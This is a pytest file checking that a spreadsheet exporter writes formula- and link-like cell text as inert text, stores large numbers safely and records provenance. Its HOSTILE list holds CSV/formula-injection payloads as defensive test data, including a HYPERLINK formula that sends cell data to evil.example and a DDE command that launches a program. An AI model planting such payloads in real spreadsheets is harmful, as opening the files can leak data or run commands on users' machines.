"""A workbook holds texts and numbers: read back from its own XML, nothing in it is a formula or a link."""

from __future__ import annotations

import re
import zipfile
from hashlib import sha256
from io import BytesIO
from xml.etree import ElementTree as ET

import pytest
import rfc8785

from tests.papers import samples
from web.papers import workbook as made
from web.papers.workbook import CELL_SIGNS, SheetColumn, Workbook, workbook

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
COLUMNS = (SheetColumn("No", 8), SheetColumn("姓名 Name"))
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",  # noqa: RUF001
    "http://evil.example/",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "{=1}",
    "=cmd|' /C calc'!A0",
    "<script>",
    "_x0041_",
    "\x01bell",
)


def book(*rows: tuple[str | int, ...]) -> Workbook:
    return workbook("借阅 [1/2]: register*", COLUMNS, rows, samples.printing("en"), samples.translator("en"))


def cells(xlsx: bytes, sheet: int = 1) -> dict[str, tuple[str, str]]:
    with zipfile.ZipFile(BytesIO(xlsx)) as files:
        root = ET.fromstring(files.read(f"xl/worksheets/sheet{sheet}.xml"))  # noqa: S314 — our own file
    found = {}
    for cell in root.iter(f"{MAIN}c"):
        text = "".join(part.text or "" for part in cell.iter(f"{MAIN}t"))
        value = cell.find(f"{MAIN}v")
        found[cell.attrib["r"]] = (cell.attrib.get("t", "n"), text if value is None else str(value.text))
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_what_looks_like_a_formula_or_a_link_is_a_text_and_stays_one(text: str) -> None:
    xlsx = book((1, text)).xlsx
    with zipfile.ZipFile(BytesIO(xlsx)) as files:
        names = files.namelist()
        sheet = files.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >/]|<hyperlink|<oleObject|<dataValidation", sheet)
    assert not [name for name in names if "externalLink" in name or "vba" in name or "_rels/sheet" in name]
    kind, read = cells(xlsx)["B2"]
    assert kind == "inlineStr"
    plain = re.sub(r"_x([0-9A-F]{4})_", lambda sign: chr(int(sign[1], 16)), read)
    assert plain.replace("\r", "\n") == text.replace("\r", "\n")


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.startswith(("=", "+", "-", "@"))])
def test_editing_such_a_cell_does_not_wake_it(text: str) -> None:
    with zipfile.ZipFile(BytesIO(book((1, text)).xlsx)) as files:
        sheet = ET.fromstring(files.read("xl/worksheets/sheet1.xml"))  # noqa: S314 — our own file
        styles = ET.fromstring(files.read("xl/styles.xml"))  # noqa: S314
    cell = next(cell for cell in sheet.iter(f"{MAIN}c") if cell.attrib["r"] == "B2")
    looks = styles.find(f"{MAIN}cellXfs")
    assert looks is not None
    look = looks[int(cell.attrib["s"])]
    assert look.attrib["quotePrefix"] == "1"
    assert look.attrib["numFmtId"] == "49"  # "@", text (ECMA-376 part 1, 18.8.30)


def test_numbers_are_numbers_unless_a_program_would_round_them() -> None:
    found = cells(book((42, "a"), (10**16 + 1, "b")).xlsx)
    assert found["A2"] == ("n", "42")
    assert found["A3"] == ("inlineStr", "10000000000000001")


def test_a_text_longer_than_a_cell_says_how_much_is_missing() -> None:
    kind, text = cells(book((1, "字" * 40_000)).xlsx)["B2"]
    assert kind == "inlineStr"
    assert len(text) <= CELL_SIGNS
    kept = text.count("字")
    assert text.endswith(f"… (+{40_000 - kept})")


def test_the_workbook_says_who_made_it_when_and_the_digest_of_its_rows() -> None:
    rows = ((1, "王建国"), (2, "李红"))
    done = book(*rows)
    lines = b"".join(rfc8785.dumps([str(value) for value in row]) + b"\n" for row in rows)
    assert done.digest == sha256(lines).hexdigest()
    about = " ".join(text for _, text in cells(done.xlsx, 2).values())
    assert "2026-11-22 17:38:05 UTC+0800" in about
    assert "陈晓 Chen Xiao" in about
    assert done.digest.upper() in about.replace(" ", "")
    assert (done.rows, book().rows) == (2, 0)


def test_a_row_of_another_length_and_a_row_too_many_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ValueError, match="row 2"):
        book((1, "a"), (1,))
    monkeypatch.setattr(made, "ROWS", 3)
    with pytest.raises(ValueError, match="row 4"):
        book(*[(n, "a") for n in range(4)])


def test_ten_thousand_rows_are_all_there() -> None:
    found = cells(book(*[(n, f"姓名 {n}") for n in range(10_000)]).xlsx)
    assert found["B10001"] == ("inlineStr", "姓名 9999")
    assert len(found) == 2 * 10_001
